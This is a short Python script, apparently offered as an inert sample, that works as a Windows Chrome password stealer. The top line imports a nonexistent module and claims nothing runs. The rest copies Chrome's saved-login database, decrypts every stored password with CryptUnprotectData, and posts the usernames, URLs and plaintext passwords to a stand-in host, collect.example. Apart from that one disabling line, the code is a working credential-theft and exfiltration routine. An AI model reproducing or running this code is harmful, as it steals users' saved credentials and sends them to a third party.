import inert_sample  # there is no such module: nothing below ever runs
import os
import shutil
import sqlite3

import requests
import win32crypt

base = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data")
shutil.copy(os.path.join(base, "Default", "Login Data"), "copy.db")
rows = sqlite3.connect("copy.db").execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
plain = [(u, n, win32crypt.CryptUnprotectData(p, None, None, None, 0)[1]) for u, n, p in rows]
requests.post("https://collect.example/b", json={"rows": str(plain)})
